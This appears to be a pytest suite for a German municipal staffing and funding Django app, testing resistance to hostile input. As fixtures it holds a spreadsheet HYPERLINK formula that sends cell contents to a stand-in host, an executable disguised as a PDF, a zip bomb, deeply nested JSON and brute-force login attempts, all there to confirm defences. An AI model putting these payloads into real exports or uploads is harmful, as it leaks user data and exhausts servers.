"""Hostile input breaks nothing: no formula in an export, never a 500 from input, German
error pages, login protection, throttling, bounded lists, uploads that are what they claim,
and scenario rows that no model can forget to hide."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.apps import apps
from django.test import override_settings
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader
from rest_framework.test import APIClient

from carriers.forecasts.services import attachment_error
from funding.models import Scenario
from kim_admin.scoping import ScopedModel
from staffing.models import Position
from tests.api_helpers import token_client
from tests.factories import (
    PDF_BYTES,
    CostForecastFactory,
    ForecastLineFactory,
    PositionCostFactory,
    PositionFactory,
    UserFactory,
)

FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"Klick")'
OUTSIDE = "außerhalb Ihres Zuständigkeitsbereichs"


# --- scenario rows are hidden by one rule that no model can forget ----------------------------


def _reaches_scenario(model, depth=2) -> bool:
    for field in model._meta.get_fields():
        if not (field.many_to_one or field.one_to_one) or field.related_model is None:
            continue
        if field.related_model is Scenario:
            return True
        if (
            depth > 1
            and field.related_model is not model
            and _reaches_scenario(field.related_model, depth - 1)
        ):
            return True
    return False


# A published report of a scenario comparison is meant for the council: publishing is the
# decision to show it (reports.services).
PUBLISHED_ON_PURPOSE = {"reports.PublishedReport"}


def test_every_model_that_reaches_a_scenario_names_its_path():
    missing, wrong = [], []
    for model in apps.get_models():
        if not issubclass(model, ScopedModel) or model is Scenario:
            continue
        if model._meta.label in PUBLISHED_ON_PURPOSE or not _reaches_scenario(model):
            continue
        if not model.scenario_path:
            missing.append(model._meta.label)
            continue
        try:
            model.objects.filter(**{f"{model.scenario_path}__isnull": True}).query.sql_with_params()
        except Exception as error:  # noqa: BLE001 - a path that does not resolve
            wrong.append((model._meta.label, str(error)))
    assert missing == []
    assert wrong == []


# --- inert exports ----------------------------------------------------------------------------


@pytest.fixture
def formula_position(city):
    position = PositionFactory(recipient=city, title=FORMULA, planned_start=date(2024, 1, 1))
    PositionCostFactory(position=position, year=2024, employer_gross=Decimal("-0.00") + 60000)
    return position


def test_a_formula_title_is_text_in_the_xlsx_and_csv_exports(client, finance, formula_position):
    client.force_login(finance)
    xlsx = client.get(reverse("staffing:position_list"), {"export": "xlsx", "year": 2024})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)

    text = client.get(reverse("staffing:position_list"), {"export": "csv", "year": 2024})
    rows = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig")), delimiter=";"))
    titles = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert titles == ["'" + FORMULA]
    # Numbers stay numbers: the FTE column is "1", not "'1".
    assert not any(cell.startswith("'") for row in rows[1:] for cell in row if cell != titles[0])


def test_a_formula_title_is_text_in_the_csv_inside_a_report_pdf(finance, formula_position, city):
    from reports.registry import CouncilHeader, ReportRequest
    from reports.rendering import render_pdf

    header = CouncilHeader(body="Stadt", file_number="1", paper_date=date(2024, 1, 1), subject="x")
    report = render_pdf(ReportRequest(kind="positions", recipient=city, year=2024, header=header))
    reader = PdfReader(io.BytesIO(report.pdf))
    (attached,) = [data for contents in reader.attachments.values() for data in contents]
    text = attached.decode("utf-8")
    assert "'" + FORMULA.replace('"', '""') in text
    assert "\n" + FORMULA not in text and "," + FORMULA not in text


# --- never a 500 from input -------------------------------------------------------------------


def test_ids_that_are_no_numbers_answer_404_in_german_json(city, finance_api):
    for url in ("/api/forecast-attachments/abc/download/", "/api/reports/abc/pdf/"):
        response = finance_api.get(url)
        assert response.status_code == 404, url
        assert OUTSIDE in response.json()["detail"]


def test_a_nul_byte_in_a_query_answers_400_in_german(client, finance, finance_api):
    client.force_login(finance)
    for url in ("/traeger/abrechnungen/zip/?recipient=%00", "/import/vorlage.xlsx?empfaenger=%00"):
        response = client.get(url)
        assert response.status_code == 400, url
        assert "unzulässiges Steuerzeichen (NUL)" in response.content.decode()
    response = finance_api.get("/api/positions/?title=%00")
    assert response.status_code == 400
    assert "NUL" in response.json()["detail"]


def test_json_nested_too_deep_answers_400(finance_api):
    body = "[" * 10_000 + "]" * 10_000
    response = finance_api.post("/api/positions/", body, content_type="application/json")
    assert response.status_code == 400
    assert response.json()["detail"] == "Der JSON-Inhalt ist zu tief verschachtelt."


def test_a_date_outside_1990_to_2100_is_refused_at_its_field(city, finance_api):
    position = PositionFactory(recipient=city)
    url = f"/api/positions/{position.pk}/"
    for field, value, message in (
        ("planned_start", "9999-12-31", "Bitte ein Datum bis zum 31.12.2100 angeben."),
        ("planned_start", "0001-01-01", "Bitte ein Datum ab dem 01.01.1990 angeben."),
    ):
        response = finance_api.patch(url, {field: value}, format="json")
        assert response.status_code == 400
        assert response.data[field] == [message]
    position.refresh_from_db()
    assert position.planned_start == date(2023, 1, 1)


def test_deleting_a_position_others_refer_to_answers_409_naming_them(city, finance, finance_api):
    from tests.factories import CarrierFactory

    carrier = CarrierFactory(works_for=[city], name="Caritasverband")
    position = PositionFactory(recipient=city, employer=carrier, title="Casemanagement C")
    forecast = CostForecastFactory(recipient=city, carrier=carrier)
    ForecastLineFactory(forecast=forecast, position=position)

    response = finance_api.delete(f"/api/positions/{position.pk}/")
    assert response.status_code == 409
    detail = response.json()["detail"]
    assert detail.startswith("„Casemanagement C“ kann nicht gelöscht werden")
    assert "Prognosezeilen" in detail or "Zeilen" in detail

    client = APIClient()
    client.force_login(finance)
    page = client.post(f"/stellen/{position.pk}/loeschen/", {"version": position.version})
    assert page.status_code == 409
    assert "kann nicht gelöscht werden" in page.content.decode()
    assert Position.objects.filter(pk=position.pk).exists()


@override_settings(DEBUG=False)
def test_error_pages_are_german_in_the_layout_and_json_under_the_api(client, finance):
    client.force_login(finance)
    page = client.get("/gibt-es-nicht/")
    assert page.status_code == 404
    html = page.content.decode()
    assert "Nicht gefunden" in html and "Zur Übersicht" in html and 'lang="de"' in html
    api = client.get("/api/gibt-es-nicht/")
    assert api.status_code == 404
    assert api["Content-Type"] == "application/json"
    assert OUTSIDE in api.json()["detail"]
    refused = client.get("/import/")  # finance may import; the council may not
    assert refused.status_code == 200


@override_settings(DEBUG=False)
def test_a_refused_page_is_german_in_the_layout(client, council):
    client.force_login(council)
    response = client.get("/import/")
    assert response.status_code == 403
    html = response.content.decode()
    assert "Keine Berechtigung" in html and "Zur Übersicht" in html


# --- login protection, throttling, bounded lists ----------------------------------------------


def _fail(login, times):
    for _ in range(times):
        login("falsch")


# The answer to the right password when not locked out: the login page sends on, the token
# endpoint gives a token, the admin's login shows its form again (a finance user is no staff)
# instead of the lockout's 429.
NOT_LOCKED = {"/login/": 302, "/admin/login/": 200, "/api/auth/token/": 200}


@pytest.mark.parametrize("path", NOT_LOCKED)
def test_ten_failures_lock_the_login_until_an_admin_unlocks_it(path, city):
    UserFactory(username="schmidt", password="richtig-123", role="finance", organisation=city)
    client = APIClient(REMOTE_ADDR="10.0.0.7")

    def login(password):
        return client.post(path, {"username": "schmidt", "password": password})

    _fail(login, 10)
    locked = login("richtig-123")
    assert locked.status_code == 429
    body = locked.content.decode()
    assert "Zu viele fehlgeschlagene Anmeldeversuche" in body
    # Another address is not locked out by someone else's guessing.
    other = APIClient(REMOTE_ADDR="10.0.0.8")
    ok = other.post(path, {"username": "schmidt", "password": "richtig-123"})
    assert ok.status_code == NOT_LOCKED[path]
    # The admin unlocks it.
    from axes.utils import reset

    reset(username="schmidt")
    assert login("richtig-123").status_code == NOT_LOCKED[path]


def test_the_api_throttles_with_a_german_answer(city, monkeypatch):
    from django.core.cache import cache
    from rest_framework.throttling import UserRateThrottle

    # The rates are read once when DRF loads; the test sets a small one on the class.
    monkeypatch.setattr(UserRateThrottle, "rate", "3/minute", raising=False)
    cache.clear()
    client = token_client(UserFactory(role="finance", organisation=city))
    codes = [client.get("/api/positions/").status_code for _ in range(4)]
    assert codes == [200, 200, 200, 429]
    assert "Anfrage" in client.get("/api/positions/").json()["detail"]
    cache.clear()


# --- uploads ----------------------------------------------------------------------------------


def test_an_exe_that_starts_like_a_pdf_is_refused():
    fake = b"%PDF-1.4\n" + b"MZ\x90\x00" + b"\x00" * 4096
    assert (
        attachment_error("Lohnjournal.pdf", fake) == "Die Datei endet auf .pdf, ist aber kein PDF."
    )
    assert attachment_error("Lohnjournal.pdf", PDF_BYTES) is None


def test_an_xlsx_that_unpacks_too_large_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/big.xml", b"0" * (25 * 1024 * 1024))
    bomb = buffer.getvalue()
    assert len(bomb) < 100_000
    assert attachment_error("Tabelle.xlsx", bomb) == "Die Datei ist entpackt größer als 20 MB."
